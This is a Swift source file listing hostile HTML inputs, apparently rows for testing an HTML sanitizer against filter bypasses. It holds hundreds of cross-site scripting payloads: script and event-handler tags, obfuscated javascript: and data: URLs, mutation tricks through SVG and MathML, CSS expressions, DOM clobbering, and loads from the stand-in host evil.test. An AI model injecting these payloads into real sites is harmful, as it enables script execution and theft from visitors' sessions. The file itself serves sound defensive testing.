/// Hostile HTML: ways by which script, style or foreign markup was got past filters, one row a way.
enum HostileHTML {
    static let base = "https://outlet.test/news/index.html?page=2"

    static let rows: [String] =
        scripts + handlers + addresses + encodedAddresses + brokenTags + comments + rawText + foreign + tables
        + nesting + clobbering + styles + controls + unicode

    /// Elements that run or load something.
    private static let scripts: [String] = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script/src='//evil.test'>",
        "<ScRiPt\n>alert(1)</sCrIpT\t>", "<script\u{0C}x>alert(1)</script\u{0C}>", "<<script>alert(1)//<</script>",
        "<script <b>alert(1)</script>", "<script src=//evil.test", "a<script>b</scriptx>c</script>d",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>a<!--<script>b</script>alert(1)</script>c",
        "<script><!--</script><img src=x onerror=alert(1)>-->", "<script>'</script><img src=x onerror=alert(1)>'",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)><img src=x onerror=alert(1)></object>", "<embed src=evil.swf>",
        "<applet code=Evil.class>a</applet>", "<frameset><frame src=javascript:alert(1)></frameset>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=javascript:alert(1)//>",
        "<link rel=stylesheet href=//evil.test/x.css>", "<link rel=import href=//evil.test/x.html>",
        "<portal src=//evil.test>", "<bgsound src=javascript:alert(1)>", "<layer src=//evil.test></layer>",
        "<xml id=x><i><b>&lt;script&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>",
        "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
        "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
        "<slot><script>alert(1)</script></slot>", "<custom-element onclick=alert(1) is=x>a</custom-element>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>fallback</audio>",
        "<video poster=javascript:alert(1)></video>", "<canvas><script>alert(1)</script></canvas>",
        "<isindex type=image src=1 onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>m</marquee>", "<dialog open onclose=alert(1)>d</dialog>",
        "<command onmouseover=alert(1)>", "<menuitem label=x onclick=alert(1)>",
    ]

    private static let handlers: [String] = [
        "<img src=x onerror=alert(1)>", "<img src=https://a.test/x.png onload='alert(1)'>", "<p onclick=alert(1)>p</p>",
        "<b/onmouseover=alert(1)>b</b>", "<a href=https://a.test/ onmouseover\n=\nalert(1)>a</a>",
        "<img\tsrc=https://a.test/i.png\u{0C}onerror=alert(1)>", "<img/src='https://a.test/i.png'/onerror='alert(1)'>",
        "<img src='https://a.test/i.png'onerror=alert(1)>", "<img src=\"https://a.test/i.png\" \"onerror=alert(1)\">",
        "<img \"\"\"><script>alert(1)</script>\">", "<img ''><b onclick=alert(1)>''>", "<p title='\"><img src=x onerror=alert(1)>'>",
        "<img alt='\" onerror=alert(1) x=\"' src=https://a.test/i.png>", "<img alt=\"` onerror=alert(1)\" src=https://a.test/i.png>",
        "<img alt=`\u{20}onerror=alert(1)` src=https://a.test/i.png>", "<a title='&quot; onclick=alert(1) &quot;' href=//a.test>a</a>",
        "<a title=\"&#34; onclick=alert(1)\" href=//a.test>a</a>", "<p =\"x\" onclick=alert(1)>p</p>", "<p =onclick=alert(1)>p</p>",
        "<img src=https://a.test/i.png onerror&equals;alert(1)>", "<p ONCLICK=alert(1) OnClIcK=alert(2)>p</p>",
        "<details open ontoggle=alert(1)><summary onfocus=alert(1)>s</summary>d</details>", "<body onload=alert(1)>b</body>",
        "<html onmouseenter=alert(1)><head><title>t</title></head><body>b</body></html>", "<p on\u{0}click=alert(1)>p</p>",
        "<p autofocus tabindex=1 onfocus=alert(1) contenteditable>p</p>", "<p data-x=1 aria-label=x role=button>p</p>",
        "<a href=https://a.test/ target=_blank rel=opener ping=//evil.test download>a</a>",
        "<img src=https://a.test/i.png usemap=#m ismap srcset='javascript:alert(1) 1x' sizes=1 crossorigin>",
        "<time datetime='\"><script>' onclick=alert(1)>t</time>", "<td colspan='1\" onclick=alert(1)'>c</td>",
        "<table background=javascript:alert(1)><td background='javascript:alert(1)'>c</table>",
        "<p lang='\" onclick=\"alert(1)' dir='ltr\" onclick=\"x'>p</p>", "<ol start='1\"><script>'><li value='2 onclick=x'>l</ol>",
    ]

    private static let addresses: [String] = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\u{1}javascript:alert(1)", "\u{1F}\tjavascript:alert(1)",
        "java\nscript:alert(1)", "java\tscr\ript:alert(1)", "javascript\t:alert(1)", "java\u{0}script:alert(1)", "\u{A0}javascript:alert(1)",
        "\u{FEFF}javascript:alert(1)", "\u{2028}javascript:alert(1)", "javascript://a.test/%0Aalert(1)", "vbscript:msgbox(1)",
        "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=alert(1)>", "data:image/png;base64,AAAA", "DATA:,x", "blob:https://a.test/x",
        "filesystem:https://a.test/x", "file:///etc/passwd", "view-source:https://a.test", "about:blank", "feed:javascript:alert(1)",
        "feed:https://a.test/", "jar:https://a.test!/x", "ms-its:x", "tel:+212600000000", "sms:1", "ftp://a.test/", "ws://a.test/",
        "x-javascript:alert(1)", "http:javascript:alert(1)", "https:alert(1)", "http://", "https:///", "http:///a.test/x", "https:\\\\a.test\\x",
        "//evil.test/x", "\\\\evil.test\\x", "/\\evil.test", "/\t/evil.test", "///evil.test", "?javascript:alert(1)", "#javascript:alert(1)",
        "./javascript:alert(1)", "javascript", ":javascript:alert(1)", "&javascript:alert(1)", "http://a.test/\"onclick=alert(1)",
        "http://a.test/'><script>alert(1)</script>", "http://a.test/` onclick=alert(1)", "http://a b.test/", "http://a<b>.test/",
        "http://a.test\u{0}/", "http://%61.test/", "http://user:pass@a.test/", "http://[::1]/", "http://a.test:80:80/", "http://:80/",
        "mailto:desk@outlet.test", "mailto:", "mailto:a@b.test?subject=\"><script>", "MAILTO:a@b.test", "mailto\n:a@b.test", "", " ",
        "../../../../x", "http:x", "https:x", "https:/x", "http:/x", "%6A%61vascript:alert(1)", "java%0ascript:alert(1)",
    ].flatMap { address in
        let quoted = address.replacing("\"", with: "&quot;")
        return ["<a href=\"\(quoted)\">a</a>", "<img src=\"\(quoted)\" alt=i>", "<img data-src=\"\(quoted)\">", "<a href=\(address)>a</a>"]
    }

    private static let encodedAddresses: [String] = [
        "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "&#x6Aavascript:alert(1)",
        "&#X6A&#X61&#X76&#X61script:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)",
        "jav&Tab;ascript:alert(1)", "jav&NewLine;ascript:alert(1)", "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)",
        "jav&#x0D;ascript:alert(1)", "jav&#9ascript:alert(1)", " &#14;  javascript:alert(1)", "&#1;javascript:alert(1)",
        "&nbsp;javascript:alert(1)", "&#x80;javascript:alert(1)", "&#0;javascript:alert(1)", "java&#0;script:alert(1)",
        "&#xD800;javascript:alert(1)", "&#99999999999;javascript:alert(1)", "data&colon;text/html,x", "&sol;&sol;evil.test", "&bsol;&bsol;evil.test",
        "https&colon;&sol;&sol;a.test", "https://a.test/?a=1&copy=2&lt;x", "https://a.test/?x=&quot;onclick=alert(1)", "https://a.test/?x=&amp;quot;y",
        "javascript&amp;colon;alert(1)", "java&shy;script:alert(1)", "java&zwnj;script:alert(1)",
    ].flatMap { ["<a href=\"\($0)\">a</a>", "<a href=\($0)>a</a>", "<img src='\($0)'>"] }

    private static let brokenTags: [String] = [
        "<", "<a", "<a ", "<a href", "<a href=", "<a href=\"", "<a href='x", "</", "</a", "</a ", "<!", "<!-", "<!--", "<?", "<?x", "&", "&#", "&#x",
        "&l", "&lt", "<a href=\"javascript:alert(1)\"", "< script>alert(1)</script>", "<\u{0}script>alert(1)</script>", "<scr\u{0}ipt>alert(1)</script>",
        "<script\u{0}>alert(1)</script>", "</script>", "</ script><img src=x onerror=alert(1)>", "</>", "</3>", "<a/>", "<//script>", "<p/p/p>", "<p<b>",
        "<p a=1 a=2 a='3>' b>", "<p a='>'>x", "<p a=\">\">x", "<p a=>x>y", "<p a= >x", "<p a = ' x '>y", "<p a=\"x\"b=\"y\"c>z", "<p \"=\">x\">y", "<p a='\"'b=\"'\">x",
        "<a href=https://a.test/ href=javascript:alert(1)>a</a>", "<a href=javascript:alert(1) href=https://a.test/>a</a>",
        "<a href=\"https://a.test/\" title=\"<img src=x onerror=alert(1)>\">a</a>", "<img alt=\"</a><script>alert(1)</script>\" src=//a.test/i>",
        "<a\u{2028}href=javascript:alert(1)>a</a>", "<a\u{A0}href=javascript:alert(1)>a</a>", "<a\u{B}href=javascript:alert(1)>a</a>", "<p>a<p>b</b></i></p></p>",
        "\u{FEFF}<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)", "&ltscript&gtalert(1)",
        "&#x3c;img src=x onerror=alert(1)&#x3e;", "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "<%<script>alert(1)</script>%>",
    ]

    private static let comments: [String] = [
        "a<!-- b -->c", "<!--><script>alert(1)</script>-->", "<!---><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!-- -- ><img src=x onerror=alert(1)> -->", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![if IE]><script>alert(1)</script><![endif]>", "<!-- a <!-- b --> c -->", "<!----!><b>x</b>", "<!--a--!b-->c", "<!doctype html \"><script>alert(1)</script>\">", "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
        "<?xml version=\"1.0\"?><b>x</b>", "<?php echo '<script>alert(1)</script>'; ?>", "<?import namespace=t ns='x'><t:set onbegin=alert(1)>",
        "<![CDATA[<script>alert(1)</script>]]>", "<![CDATA[ ]]><b>x</b>", "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>z",
        "<math><![CDATA[>]]><b>x</b></math>", "</!-- x --><b>y</b>", "</?x><b>y</b>", "<!x<b>y</b>", "<!--\u{0}--><b>x</b>", "<!ELEMENT br EMPTY>x",
    ]

    private static let rawText: [String] = ["style", "xmp", "iframe", "noembed", "noframes", "noscript", "title", "textarea", "script", "plaintext", "listing", "pre", "template", "select", "option"]
        .flatMap { name in
            [
                "<\(name)><p title=\"</\(name)><img src=x onerror=alert(1)>\">", "<\(name)><!--</\(name)><img src=x onerror=alert(1)>-->",
                "<\(name)></\(name)x></\(name)/><b>x</b>", "<\(name)>&lt;/\(name)&gt;<script>alert(1)</script>", "<\(name)/><b>x</b></\(name)>y",
                "<\(name.uppercased())>a</\(name) ><b>x</b>", "<svg><\(name)><p title=\"</\(name)><img src=x onerror=alert(1)>\">", "a<\(name)>b",
                "<math><\(name)><img src=x onerror=alert(1)></\(name)>c", "<table><\(name)>d</\(name)><td>e", "<div><\(name)><p>a</div>b",
            ]
        }

    private static let foreign: [String] = [
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>a", "<svg><script>alert(1)</script></svg>", "<svg><script xlink:href=data:,alert(1) />b", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>", "<svg><set attributeName=onmouseover to=alert(1)></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe><p>x</p></foreignObject></svg>y", "<svg><use href='data:image/svg+xml,x'></svg>", "<svg><image href=x onerror=alert(1)></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math><mi><table><mglyph><style><math><img src=x onerror=alert(1)></style>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math href=javascript:alert(1)>a</math>", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
        "<math><annotation-xml><svg><desc><b>x</desc></svg></annotation-xml></math>y", "<math><maction actiontype=statusline#https://a.test xlink:href=javascript:alert(1)>x</maction></math>", "<svg><title><b>x</title></svg>y",
        "<svg><desc><p>x</svg>y", "<svg><p>breaks out</p>", "<svg><font color=x>y", "<svg></svg>a", "<svg/>a", "<svg><svg/></svg>b", "<svg><svg></svg>c</svg>d", "<math/>a<b>b</b>", "<svg><br>a", "<svg></br>a", "<svg><a><a>x</svg>y",
        "<p><svg></p>x", "<div><svg><g></div>x", "<svg><textarea><b>x</textarea></svg>y", "<svg><noscript><img src=x onerror=alert(1)></noscript>z", "<svg:script>alert(1)</svg:script>", "<svg><mtext><b>x</b></mtext></svg>",
        "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror=alert(1)>\">", "<svg viewBox='0 0 1 1'><path d='M0 0'/><text>t</text></svg>after",
    ]

    private static let tables: [String] = [
        "<table>a<tr>b<td>c</td>d</tr>e</table>f", "<table><b>x<tr><td>y", "<table><a href=//a.test>x<tr><td><a href=//b.test>y", "<td>a</td><td>b</td>", "<tr><td>a", "<table><table><td>x", "<table><td><table><td>x</table>y</table>z",
        "<table><caption>a<table><td>b</table>c<td>d", "<table><colgroup><col span=2>a<td>b", "<table><col><col><tr><th scope=row>x", "<table> <thead> <tr> <th> a </table> b", "<table><form><tr><td>x</form>y", "<table><tr><p>x</tr></table>",
        "<table></div></table>", "<div><table></div><td>x</div>y", "<p><table><td>x</table>y", "<table><select><td>x</select>y", "<table><svg><td>x", "<table><style>a</style><td>b", "<table><script>a</script>b", "<table><input type=hidden>a",
        "<b><table><td></b><i>x</table>y", "<a href=//a.test><table><td><a href=//b.test>x</a></table>y</a>", "<table><tr><td colspan=9999 rowspan=-1 width=5>x", "<table><tbody><td>x<tfoot><tr>y", "<table><caption><td>x", "<table><span style=x><tr>y",
        "<table><tr><td><p>a<td>b</p><tr>c", "<table><colgroup> <col> </colgroup> <tr><td>x", "<table>\u{1}<tr>x", "<table>&#32;<tr>x", "<table><br><hr><img src=//a.test/i>", "</table></td></tr>x", "<table><math><tr>x</math>y", "<table><li>x<td><li>y</table>z",
    ]

    private static let nesting: [String] = [
        "<b><i>x</b>y</i>z", "<b><p>x</b>y</p>z", "<p><b>x<p>y</b>z", "<a href=//a.test>x<a href=//b.test>y</a>z</a>", "<a href=//a.test><div><a href=//b.test>y</a></div></a>", "<h1>a<h2>b</h1>c</h2>d", "<h1><span><h2>a</h2></span></h1>", "<h1><span lang=ar><h2>a</h2></span></h1>",
        "<ul><li>a<li>b<ul><li>c</ul><li>d</ul>e", "<li>a<li>b", "<li><div><li>a", "<li><section><li>a", "<li><p><li>a", "<dl><dt>a<dd>b<dt>c</dl>d", "<dd><span><dt>a", "<p>a<div>b</p>c</div>d", "<p><span>a<div>b</span>c</div>d", "<p>a<hr>b", "<p>a<table><td>b</table>c",
        "<div></span></div>", "<span lang=ar><div></span>x</div>y", "<blockquote><p>a</blockquote>b", "</div></div>x", "</p>x", "</br>x", "</h1>x", "<em><em><em><em>x</em></em></em></em>y", "<b>1<b>2<b>3<b>4<p>x</p></b></b></b></b>", "<nobr>a<nobr>b", "<button>a<button>b</button>c",
        "<p><button><p>x</button>y", "<pre>\na</pre>", "<pre>\n\na</pre>", "<pre>\r\n\r\na</pre>", "<pre>&#10;a</pre>", "<pre><code>\na</code></pre>", "<pre><b></b>\na</pre>", "<pre><x>\n</x>\na</pre>", "<listing>\n\nx</listing>", "<pre>\n<!-- -->\nx</pre>", "<figure><img src=//a.test/i><figcaption>x",
        "<details><summary>a<p>b</summary>c</details>d", "<center>a</center>b", "<font color=red><b>x</font>y</b>", "<main><nav>a</main>b", "<form><div></form>x</div>y", "<ruby>a<rp>(</rp><rt>b</rt><rp>)</rp></ruby>", "<address><li>a<address><li>b", "<ul><p>x<li>y</p>z</ul>",
        "<bdo>a</bdo><bdo dir=rtl>b</bdo>", "<span>a</span><span dir=rtl>b<span>c</span>d</span>e", "<q><cite>x</q>y</cite>", "<a>x<a href=//a.test>y</a>", "<a href=//a.test>x<a>y</a>z</a>", "<img><img alt=x><img src=//a.test/i></img>", "<strike>x</strike><tt>y</tt><acronym title=z>w</acronym>", "<image src=//a.test/i>",
        String(repeating: "<div>", count: 300) + "x", String(repeating: "<b><p>", count: 200) + "x", String(repeating: "<table><td>", count: 120) + "x", String(repeating: "<ul><li>", count: 100) + "x</ul>y", String(repeating: "<svg>", count: 200) + "x", String(repeating: "<a href=//a.test><td>", count: 50),
    ]

    private static let clobbering: [String] = [
        "<a id=document name=cookie href=//a.test>x</a>", "<img name=getElementById src=//a.test/i>", "<form id=x><input name=attributes><input name=parentNode></form>", "<form name=body action=javascript:alert(1)>x</form>", "<p class=x id=y style='position:fixed' slot=z part=w>p</p>",
        "<p xmlns=x xml:base=javascript:alert(1) xlink:href=javascript:alert(1) xml:lang=ar>p</p>", "<map name=m><area href=javascript:alert(1)></map>", "<label for=x>l</label>m", "<a href=//a.test accesskey=x>a</a>", "<p itemscope itemtype=x is=y nonce=z>p</p>",
    ]

    private static let styles: [String] = [
        "<p style='background:url(javascript:alert(1))'>p</p>", "<p style='width:expression(alert(1))'>p</p>", "<p style=\"xss:expr/*x*/ession(alert(1))\">p</p>", "<p style='-moz-binding:url(//evil.test/x.xml#x)'>p</p>", "<style>@import '//evil.test/x.css';</style>a", "<style>*{x:expression(alert(1))}</style>b",
        "<style><img src=\"</style><img src=x onerror=alert(1)//\">", "<style>a</style/><b>c</b>", "<p style=\"behavior:url(x.htc)\">p</p>", "<div style=\"background-image:\\0075\\0072\\006C('javascript:alert(1)')\">d</div>",
    ]

    private static let controls: [String] = [
        "<form action=javascript:alert(1)><input type=submit></form>", "<form><button formaction=javascript:alert(1)>x</button>y</form>", "<input type=image src=x onerror=alert(1)>", "<select onchange=alert(1)><option>a<option>b</select>c", "<select><template><img src=x onerror=alert(1)></select>",
        "<textarea><img src=x onerror=alert(1)></textarea>a", "<textarea></textarea ><b>x</b>", "<button><img src=x onerror=alert(1)><p>a</p></button>b", "<fieldset><legend>a</legend>b</fieldset>", "<label>a<button>b</label>c</button>d", "<div><button></div>a", "<button><div></div></button>a", "<option><p>a</option>b",
        "<select><svg><style><!--</select><img src=x onerror=alert(1)>-->", "<object><object></object>a</object>b", "<object><div></object>a</div>b", "<div><object></div>a</object>b</div>c", "<progress value=1>x</progress>y", "<output onforminput=alert(1)>x</output>y", "<datalist><option value=x></datalist>z",
    ]

    private static let unicode: [String] = [
        "\u{FFFE}\u{FFFF}\u{1}\u{7F}\u{85}\u{9F}\u{A0}x", "&#xFFFE;&#xFFFF;&#x1FFFE;&#1;&#127;&#133;&#12;&#13;x", "\u{1FFFF}a\u{10FFFF}b", "<p>\u{0}\u{B}\u{C}\r\n\r</p>", "\u{202E}<b>\u{2066}x</b>", "<p title='\u{FFFF}'>\u{E000}</p>", "<\u{212A}bd>k</\u{212A}bd>", "<\u{131}mg src=x onerror=alert(1)>", "<a hre\u{FB00}=x>y</a>",
        "\u{1F1F2}\u{1F1E6}\u{301}<b>\u{301}</b>", "<a href=\"https://a.test/\u{FFFE}\u{85}\u{202E}\">x</a>", "<img src=https://a.test/i alt=\"\u{0}\u{1F}\r\n\u{FFFF}\u{9F}\">", "<a href=https://\u{62E}\u{628}\u{631}.test/>x</a>",
    ]
}
